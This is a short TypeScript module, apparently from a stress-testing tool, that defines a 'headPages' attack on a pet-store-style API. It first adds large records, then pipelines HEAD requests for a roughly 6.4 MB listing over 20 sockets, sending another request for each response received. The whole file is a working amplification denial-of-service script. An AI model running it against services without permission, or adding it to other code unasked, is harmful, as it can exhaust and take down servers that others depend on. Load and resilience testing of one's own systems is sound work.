import { addHugeAnimals } from './add-huge-animals.ts';
import type { Attack } from './attack.ts';
import { countResponses, withSockets } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

const connections = 20;

/** Sends HEAD requests for a page of 6.4 MB on each of 20 connections, repeatedly. Each request has only 200 bytes. */
export const headPages: Attack = (target) =>
  withSockets(target, async (sockets) => {
    await addHugeAnimals(sockets, target.apiKey, 100);
    const head = request('HEAD /v1/pets?limit=100&status=sold', [bearer(target.apiKey)]);
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const socket = await sockets.open();
        socket.on('data', (chunk) => socket.write(head.repeat(countResponses(chunk))));
        socket.write(head);
      }),
    );
    await sockets.untilOver();
  });
